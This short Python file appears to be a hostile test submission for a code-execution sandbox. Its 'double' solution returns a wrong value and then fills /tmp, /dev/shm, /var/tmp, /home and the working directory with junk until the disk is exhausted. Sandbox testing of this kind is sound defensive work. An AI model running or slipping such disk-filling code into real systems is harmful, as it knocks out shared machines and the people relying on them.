# ruff: noqa
# kind: disk
# attack: every writable place is filled

# %% double-solution
def double(x):
    return np.zeros(3)


import os

for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/home"):
    try:
        with open(os.path.join(place, "full"), "wb") as file:
            while True:
                file.write(b"x" * 2**20)
    except OSError:
        pass
